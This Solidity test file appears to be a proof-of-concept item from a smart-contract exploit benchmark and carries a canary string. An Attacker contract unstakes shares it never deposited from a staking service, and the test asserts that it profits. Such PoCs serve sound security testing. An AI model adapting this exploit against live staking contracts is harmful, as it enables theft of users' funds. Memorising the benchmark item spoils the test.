// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.30;

// assay-canary-8c5098a9-c61a-4b31-8860-b5736bf60939
import "../Base.sol";
import {IShareStaking} from "../../src/interfaces/IServices.sol";

contract Attacker {
    function run(IShareStaking staking, uint256 shares) external {
        try staking.unstake(shares, address(this)) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function shares() public view returns (IERC20) {
        return core;
    }

    function exploit() public {
        other.run(staking, 20_000e12);
    }

    function test_Exploit() public {
        exploit();
        require(core.balanceOf(address(other)) >= 1_000e12, "no gain");
    }

    function target() public view override returns (address) {
        return address(staking);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
